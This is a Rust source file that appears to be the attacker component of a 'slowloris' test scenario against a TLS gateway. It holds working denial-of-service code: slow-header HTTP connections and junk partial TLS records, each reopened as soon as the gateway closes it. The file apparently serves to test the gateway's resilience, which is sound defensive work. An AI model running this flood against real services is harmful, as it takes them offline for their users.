//! The `slowloris` scenario's attacker: connections that never become a device's, held
//! open against the gateway and reopened as soon as it closes them, as a persistent
//! attacker would.
//!
//! - **Slow headers**: a completed TLS handshake, then an HTTP/1 request whose headers
//!   never end (one more header line every few seconds).
//! - **Junk TLS**: a TCP connection that sends the first bytes of a TLS record announcing
//!   a 16 KiB handshake message, and then nothing.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use anyhow::Context as _;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::sync::Semaphore;

/// Seconds between a slow client's header lines.
const DRIP: Duration = Duration::from_secs(5);
/// Pause before the attacker reopens a connection the gateway closed.
const REOPEN: Duration = Duration::from_millis(500);
/// Connections the attacker opens at once (its handshakes cost it CPU too).
const OPENING: usize = 64;

/// What the attacker saw.
#[derive(Debug, Default)]
pub struct FloodStats {
    /// Connections open now.
    pub open: AtomicU64,
    /// Connections opened (TCP connected, and for slow headers the handshake done).
    pub opened: AtomicU64,
    /// Connections the gateway closed (or answered and closed).
    pub closed: AtomicU64,
    /// Attempts that failed to connect or to handshake.
    pub failed: AtomicU64,
}

/// The flood's target: `addr` (`host:port`) and, for the TLS handshakes, the name the
/// gateway's certificate carries and the CA that signed it.
#[derive(Clone)]
pub struct Target {
    pub addr: String,
    pub name: rustls::pki_types::ServerName<'static>,
    pub tls: Arc<rustls::ClientConfig>,
}

impl Target {
    /// From a gateway URL (`https://host:port[/…]`) and its CA (PEM).
    pub fn new(url: &str, ca_pem: &[u8]) -> anyhow::Result<Self> {
        use rustls::pki_types::pem::PemObject as _;
        let rest = url
            .strip_prefix("https://")
            .with_context(|| format!("{url}: not an https URL"))?;
        let addr = rest.split('/').next().unwrap_or(rest).to_owned();
        let host = addr
            .rsplit_once(':')
            .map_or(addr.as_str(), |(h, _)| h)
            .trim_start_matches('[')
            .trim_end_matches(']')
            .to_owned();
        let name = rustls::pki_types::ServerName::try_from(host)
            .with_context(|| format!("{url}: no host name"))?;
        let mut roots = rustls::RootCertStore::empty();
        for cert in rustls::pki_types::CertificateDer::pem_slice_iter(ca_pem) {
            roots.add(cert.context("the gateway CA")?)?;
        }
        let tls = rustls::ClientConfig::builder()
            .with_root_certificates(roots)
            .with_no_client_auth();
        Ok(Self {
            addr,
            name,
            tls: Arc::new(tls),
        })
    }
}

/// Starts `slow` slow-header and `junk` junk-TLS connections, each reopened whenever
/// it ends, until the returned tasks are aborted.
pub fn start(
    target: &Target,
    slow: usize,
    junk: usize,
    stats: &Arc<FloodStats>,
) -> Vec<tokio::task::JoinHandle<()>> {
    let opening = Arc::new(Semaphore::new(OPENING));
    let mut tasks = Vec::with_capacity(slow + junk);
    for k in 0..slow + junk {
        let (target, stats, opening) = (target.clone(), stats.clone(), opening.clone());
        let slow = k < slow;
        tasks.push(tokio::spawn(async move {
            loop {
                let held = {
                    let Ok(_permit) = opening.acquire().await else {
                        return;
                    };
                    if slow {
                        open_slow(&target).await
                    } else {
                        open_junk(&target).await
                    }
                };
                match held {
                    Ok(conn) => {
                        stats.opened.fetch_add(1, Ordering::Relaxed);
                        stats.open.fetch_add(1, Ordering::Relaxed);
                        conn.hold().await;
                        stats.open.fetch_sub(1, Ordering::Relaxed);
                        stats.closed.fetch_add(1, Ordering::Relaxed);
                    }
                    Err(_) => {
                        stats.failed.fetch_add(1, Ordering::Relaxed);
                    }
                }
                tokio::time::sleep(REOPEN).await;
            }
        }));
    }
    tasks
}

/// One held connection.
enum Held {
    Slow(Box<tokio_rustls::client::TlsStream<TcpStream>>),
    Junk(TcpStream),
}

/// Longest the attacker waits for a TCP connection or a handshake.
const PATIENCE: Duration = Duration::from_secs(30);

async fn open_slow(target: &Target) -> anyhow::Result<Held> {
    let tcp = tokio::time::timeout(PATIENCE, TcpStream::connect(&target.addr)).await??;
    let tls = tokio_rustls::TlsConnector::from(target.tls.clone());
    let mut stream =
        tokio::time::timeout(PATIENCE, tls.connect(target.name.clone(), tcp)).await??;
    stream
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: gateway\r\n")
        .await?;
    Ok(Held::Slow(Box::new(stream)))
}

async fn open_junk(target: &Target) -> anyhow::Result<Held> {
    let mut tcp = tokio::time::timeout(PATIENCE, TcpStream::connect(&target.addr)).await??;
    // A TLS handshake record announcing 16 KiB, of which 3 bytes come.
    tcp.write_all(&[0x16, 0x03, 0x01, 0x40, 0x00, 0x01, 0x00, 0x3f])
        .await?;
    Ok(Held::Junk(tcp))
}

impl Held {
    /// Holds the connection until the gateway closes it (or answers: a slow client
    /// the gateway answered, with a timeout for instance, counts as closed too).
    async fn hold(self) {
        let mut buf = [0u8; 1024];
        match self {
            Self::Slow(stream) => {
                let (mut r, mut w) = tokio::io::split(*stream);
                loop {
                    tokio::select! {
                        _ = r.read(&mut buf) => return,
                        () = tokio::time::sleep(DRIP) => {
                            if w.write_all(b"X-Slow: 1\r\n").await.is_err() {
                                return;
                            }
                        }
                    }
                }
            }
            Self::Junk(mut tcp) => {
                let _ = tcp.read(&mut buf).await;
            }
        }
    }
}
